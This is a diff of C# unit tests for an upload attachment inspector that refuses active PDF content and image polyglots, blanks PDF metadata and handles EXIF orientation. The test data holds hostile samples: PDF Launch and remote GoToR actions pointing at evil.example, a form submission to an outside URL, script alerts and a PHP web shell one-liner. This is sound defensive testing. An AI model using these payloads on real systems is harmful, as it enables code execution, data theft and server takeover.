@@ -265,4 +265,306 @@ public sealed class AttachmentTests(SharedApp factory) : IClassFixture<SharedApp
         var attachment = Assert.Single((await StoredTipAsync(fields)).Attachments);
         Assert.Null(attachment.SealedLocation);
     }
+
+    private static string Text(Inspection inspection) => Encoding.Latin1.GetString(inspection.Cleaned);
+
+    [Fact]
+    public void Pdf_WhoseCompressedStreamSpellsActiveNames_IsAccepted()
+    {
+        var data = TestFiles.RandomBytes(1_000_000, seed: 11, "/JS ", "/JavaScript ", "/Launch/", "/EmbeddedFile>", "(unbalanced ", "/J#61vaScript ");
+        var pdf = TestFiles.PdfWithStream(data);
+
+        var inspection = AttachmentInspector.Inspect(pdf);
+
+        Assert.Null(inspection.Problem);
+        Assert.Equal(pdf.Length, inspection.Cleaned.Length);
+        Assert.DoesNotContain("Jane Sample Author", Text(inspection), StringComparison.Ordinal);
+        Assert.Equal(data, inspection.Cleaned.AsSpan(pdf.Length - data.Length - "\nendstream\nendobj\ntrailer\n<< /Info 1 0 R >>\n%%EOF\n".Length, data.Length).ToArray());
+    }
+
+    [Fact]
+    public void Pdf_WithAStreamWhoseLengthIsIndirect_IsStillSkippedToItsEnd()
+    {
+        var pdf = TestFiles.PdfWithStream(TestFiles.RandomBytes(200_000, seed: 12, "/JS ", "/JavaScript "));
+        var indirect = Encoding.Latin1.GetBytes(Encoding.Latin1.GetString(pdf).Replace("/Length 200000", "/Length 9 0 R ", StringComparison.Ordinal));
+
+        Assert.Null(AttachmentInspector.Inspect(indirect).Problem);
+    }
+
+    [Theory]
+    [InlineData("/S /J#61vaScript /J#53 (app.alert(1))")]
+    [InlineData("/S /#4A#61#76#61#53#63#72#69#70#74")]
+    [InlineData("/OpenAction << /S /Launch /F (calc.exe) >>")]
+    [InlineData("/Names << /EmbeddedFiles 4 0 R >>")]
+    [InlineData("/Type /Filespec /F (a.exe) /EF << /F 5 0 R >>")]
+    [InlineData("/S /SubmitForm /F (https://example.org/collect)")]
+    [InlineData("/S /GoToR /F (\\\\evil.example\\share\\doc.pdf)")]
+    [InlineData("/AcroForm << /XFA 6 0 R >>")]
+    [InlineData("/Subtype /RichMedia")]
+    public void Pdf_WithActiveNames_EvenEscaped_IsRefused(string dictionary)
+    {
+        var pdf = TestFiles.Pdf($"2 0 obj\n<< {dictionary} >>\nendobj\n");
+
+        Assert.Equal(UploadProblem.ActiveContent, AttachmentInspector.Inspect(pdf).Problem);
+    }
+
+    [Theory]
+    [InlineData("<< /S /JavaScript /JS (app.alert(1)) >>", "/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode")]
+    [InlineData("<< /S /J#61vaScript /JS (app.alert(1)) >>", "/Type /Obj#53tm /N 1 /First 4 /Filter [/FlateDecode]")]
+    [InlineData("<< /S /Launch /F (calc.exe) >>", "/N 1 /First 4 /Filter /FlateDecode")]
+    public void Pdf_WithScriptInsideACompressedObjectStream_IsRefused(string objectBody, string dictionary)
+    {
+        var pdf = TestFiles.PdfWithObjectStream(objectBody, dictionary);
+
+        Assert.Equal(UploadProblem.ActiveContent, AttachmentInspector.Inspect(pdf).Problem);
+    }
+
+    [Fact]
+    public void Pdf_WithAPlainObjectStream_IsAccepted()
+    {
+        var pdf = TestFiles.PdfWithObjectStream("<< /Type /Page /Contents (see /JS here) /MediaBox [0 0 612 792] >>");
+
+        Assert.Null(AttachmentInspector.Inspect(pdf).Problem);
+    }
+
+    [Theory]
+    [InlineData("/Type /ObjStm /N 1 /First 4 /Filter /LZWDecode")]
+    [InlineData("/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /DecodeParms << /Predictor 12 >>")]
+    public void Pdf_WithAnObjectStreamThatCannotBeInspected_IsRefusedAsDamaged(string dictionary)
+    {
+        var pdf = TestFiles.PdfWithObjectStream("<< /Type /Page >>", dictionary);
+
+        Assert.Equal(UploadProblem.Damaged, AttachmentInspector.Inspect(pdf).Problem);
+    }
+
+    [Fact]
+    public void Pdf_WithAnObjectStreamInflatingBeyondTheCap_IsRefusedAsDamaged()
+    {
+        var body = "<< /Filler (" + new string('a', (int)PdfScanner.MaxInflatedBytes) + ") >>";
+
+        Assert.Equal(UploadProblem.Damaged, AttachmentInspector.Inspect(TestFiles.PdfWithObjectStream(body)).Problem);
+    }
+
+    [Fact]
+    public void Pdf_WithAnObjectHiddenInsideStreamData_IsRefused()
+    {
+        var hidden = "BT (looks like text) Tj ET\nendobj\n7 0 obj\n<< /S /JavaScript /JS (app.alert(1)) >>\nendobj\n";
+        var pdf = TestFiles.PdfWithStream(Encoding.Latin1.GetBytes(hidden), dictionary: "");
+
+        Assert.Equal(UploadProblem.ActiveContent, AttachmentInspector.Inspect(pdf).Problem);
+    }
+
+    [Fact]
+    public void Pdf_NamesInsideStringsAndComments_AreNotHits()
+    {
+        var pdf = TestFiles.Pdf("% written by /JavaScript-free tools\n2 0 obj\n<< /Contents (see /JS here \\) and (/Launch) too) /T <2F4A53> >>\nendobj\n");
+
+        Assert.Null(AttachmentInspector.Inspect(pdf).Problem);
+    }
+
+    [Fact]
+    public void Pdf_AuthorWithEscapedParentheses_IsBlankedToItsEnd()
+    {
+        var pdf = Encoding.Latin1.GetBytes(
+            "%PDF-1.4\n1 0 obj\n<< /Author (Jane \\(Sample\\) Author\\) Smith (Jr) Doe) /Title (Evidence) >>\nendobj\ntrailer\n<< /Info 1 0 R >>\n%%EOF\n");
+
+        var inspection = AttachmentInspector.Inspect(pdf);
+
+        Assert.Null(inspection.Problem);
+        var text = Text(inspection);
+        Assert.Equal(pdf.Length, text.Length);
+        foreach (var part in new[] { "Jane", "Sample", "Smith", "Jr", "Doe", "Evidence" })
+        {
+            Assert.DoesNotContain(part, text, StringComparison.Ordinal);
+        }
+
+        Assert.Contains("/Author (", text, StringComparison.Ordinal);
+        Assert.EndsWith("%%EOF\n", text, StringComparison.Ordinal);
+    }
+
+    [Fact]
+    public void Pdf_CreationAndModificationDates_AreBlanked_AndAnIndirectAuthorToo()
+    {
+        var pdf = Encoding.Latin1.GetBytes(
+            "%PDF-1.4\n1 0 obj\n<< /CreationDate (D:20240312091500+05'30') /ModDate<443A3230323430333132> /Author 5 0 R >>\nendobj\n" +
+            "5 0 obj\n(Jane Sample Author)\nendobj\ntrailer\n<< /Info 1 0 R >>\n%%EOF\n");
+
+        var inspection = AttachmentInspector.Inspect(pdf);
+
+        Assert.Null(inspection.Problem);
+        var text = Text(inspection);
+        Assert.Equal(pdf.Length, text.Length);
+        Assert.DoesNotContain("2024", text, StringComparison.Ordinal);
+        Assert.DoesNotContain("05'30", text, StringComparison.Ordinal);
+        Assert.DoesNotContain("443A", text, StringComparison.Ordinal);
+        Assert.DoesNotContain("Jane", text, StringComparison.Ordinal);
+    }
+
+    [Fact]
+    public void Jpeg_WhoseCompressedDataSpellsOtherFilesSignatures_IsAccepted()
+    {
+        var jpeg = TestFiles.JpegWithEntropyBytes("<svg"u8.ToArray(), [0x50, 0x4B, 0x03, 0x04], "<HtMl"u8.ToArray(), "%PDF-"u8.ToArray());
+
+        var inspection = AttachmentInspector.Inspect(jpeg);
+
+        Assert.Null(inspection.Problem);
+        Assert.Equal((256, 256), (inspection.Width, inspection.Height));
+    }
+
+    [Fact]
+    public void Png_WhosePixelDataSpellsOtherFilesSignatures_IsAccepted()
+    {
+        var png = TestFiles.PngWithPixelBytes([0x50, 0x4B, 0x03, 0x04, .. "<svg<script%PDF-"u8]);
+        Assert.True(png.AsSpan().IndexOf("<svg"u8) > 0);
+
+        Assert.Null(AttachmentInspector.Inspect(png).Problem);
+    }
+
+    [Fact]
+    public void Photo_WithHarmlessPaddingOrASecondCameraPicture_AppendedAfterTheEnd_IsAccepted()
+    {
+        byte[] padded = [.. TestFiles.Jpeg(), .. new byte[200], .. "SEFHcamera trailer"u8];
+        byte[] withGainMap = [.. TestFiles.Jpeg(), .. TestFiles.JpegWithEntropyBytes("<svg"u8.ToArray())];
+
+        Assert.Null(AttachmentInspector.Inspect(padded).Problem);
+        Assert.Null(AttachmentInspector.Inspect(withGainMap).Problem);
+    }
+
+    [Theory]
+    [InlineData("jpeg")]
+    [InlineData("png")]
+    [InlineData("webp")]
+    [InlineData("jpeg-then-jpeg")]
+    public void Photo_WithAZipAppendedAfterTheEnd_IsRefusedAsAPolyglot(string kind)
+    {
+        var picture = kind switch
+        {
+            "png" => TestFiles.Png(),
+            "webp" => TestFiles.WebP(),
+            "jpeg-then-jpeg" => [.. TestFiles.Jpeg(), .. TestFiles.Jpeg()],
+            _ => TestFiles.Jpeg(),
+        };
+
+        Assert.Equal(UploadProblem.Polyglot, AttachmentInspector.Inspect([.. picture, .. TestFiles.Zip()]).Problem);
+    }
+
+    [Theory]
+    [InlineData("<html><script>alert(1)</script></html>")]
+    [InlineData("<?php system($_GET['c']); ?>")]
+    [InlineData("MZ\u0090\0\u0003 executable header")]
+    public void Photo_WithAPageOrProgramAppended_IsRefusedAsAPolyglot(string appended)
+    {
+        var jpeg = TestFiles.Jpeg();
+
+        Assert.Equal(UploadProblem.Polyglot, AttachmentInspector.Inspect([.. jpeg, .. Encoding.Latin1.GetBytes(appended)]).Problem);
+    }
+
+    /// <summary>Which stored corner (0 top left, 1 top right, 2 bottom left, 3 bottom right) each shown corner shows, by EXIF orientation.</summary>
+    private static readonly int[][] ShownCorners =
+    [
+        [0, 1, 2, 3], // 1: as stored
+        [1, 0, 3, 2], // 2: mirrored left to right
+        [3, 2, 1, 0], // 3: turned half way
+        [2, 3, 0, 1], // 4: mirrored top to bottom
+        [0, 2, 1, 3], // 5: mirrored along the top-left diagonal
+        [2, 0, 3, 1], // 6: turned a quarter clockwise
+        [3, 1, 2, 0], // 7: mirrored along the top-right diagonal
+        [1, 3, 0, 2], // 8: turned a quarter anticlockwise
+    ];
+
+    [Theory]
+    [InlineData(1)]
+    [InlineData(2)]
+    [InlineData(3)]
+    [InlineData(4)]
+    [InlineData(5)]
+    [InlineData(6)]
+    [InlineData(7)]
+    [InlineData(8)]
+    public void Photo_WithAnyOfTheEightExifOrientations_IsStoredTheWayItIsShown(int orientation)
+    {
+        var inspection = AttachmentInspector.Inspect(TestFiles.Quadrants(orientation));
+
+        Assert.Null(inspection.Problem);
+        using var shown = SkiaSharp.SKBitmap.Decode(inspection.Cleaned);
+        var turned = orientation >= 5;
+        Assert.Equal(turned ? (20, 40) : (40, 20), (shown.Width, shown.Height));
+        Assert.Equal(turned ? (20, 40) : (40, 20), (inspection.Width!.Value, inspection.Height!.Value));
+        (int X, int Y)[] corners = [(2, 2), (shown.Width - 3, 2), (2, shown.Height - 3), (shown.Width - 3, shown.Height - 3)];
+        for (var corner = 0; corner < 4; corner++)
+        {
+            var expected = TestFiles.QuadrantColours[ShownCorners[orientation - 1][corner]];
+            var actual = shown.GetPixel(corners[corner].X, corners[corner].Y);
+            Assert.True(
+                Math.Abs(expected.Red - actual.Red) < 40 && Math.Abs(expected.Green - actual.Green) < 40 && Math.Abs(expected.Blue - actual.Blue) < 40,
+                $"orientation {orientation}, corner {corner}: expected {expected}, got {actual}");
+        }
+    }
+
+    [Fact]
+    public async Task ImageDecoding_WaitsForAFreeSlotInTheGate()
+    {
+        var gate = new DecodeGate(1);
+        var png = TestFiles.Png();
+        Task<Inspection> inspecting;
+        using (gate.Enter())
+        {
+            inspecting = Task.Run(() => AttachmentInspector.Inspect(png, gate));
+            await Task.Delay(300);
+            Assert.False(inspecting.IsCompleted);
+        }
+
+        Assert.Null((await inspecting.WaitAsync(TimeSpan.FromSeconds(30))).Problem);
+        Assert.Equal(1, gate.Available);
+    }
+
+    [Fact]
+    [System.Diagnostics.CodeAnalysis.SuppressMessage("Security", "CA5394", Justification = "A fixed seed makes any failure reproducible; nothing here is secret.")]
+    public void FilesCutShortOrScrambled_AreJudged_NeverThrow()
+    {
+        var random = new Random(3);
+        const string pdfBytes = "()<>[]/%\\#0123 \nsRobjendstream";
+        byte[][] pdfs =
+        [
+            TestFiles.PdfWithObjectStream("<< /Type /Page /Contents (see /JS here) >>"),
+            TestFiles.Pdf("2 0 obj\n<< /A (x\\) (y)) /B <41> /Author 5 0 R /Length 3 >>\nstream\nabc\nendstream\nendobj\n5 0 obj\n(n)\nendobj\n"),
+        ];
+        foreach (var pdf in pdfs)
+        {
+            for (var cut = 0; cut <= pdf.Length; cut++)
+            {
+                PdfScanner.Scan(pdf[..cut]);
+            }
+
+            for (var i = 0; i < 5000; i++)
+            {
+                var scrambled = (byte[])pdf.Clone();
+                for (var k = 0; k < 3; k++)
+                {
+                    scrambled[random.Next(scrambled.Length)] = (byte)pdfBytes[random.Next(pdfBytes.Length)];
+                }
+
+                PdfScanner.Scan(scrambled);
+            }
+        }
+
+        foreach (var (image, type) in new[] { (TestFiles.Jpeg(), "image/jpeg"), (TestFiles.Png(), "image/png"), (TestFiles.WebP(), "image/webp") })
+        {
+            for (var cut = 0; cut <= image.Length; cut++)
+            {
+                ImageStructure.HasForeignTrailer(image[..cut], type);
+            }
+
+            for (var i = 0; i < 2000; i++)
+            {
+                var scrambled = (byte[])image.Clone();
+                for (var k = 0; k < 4; k++)
+                {
+                    scrambled[random.Next(scrambled.Length)] = (byte)random.Next(256);
+                }
+
+                ImageStructure.HasForeignTrailer(scrambled, type);
+            }
+        }
+    }
 }
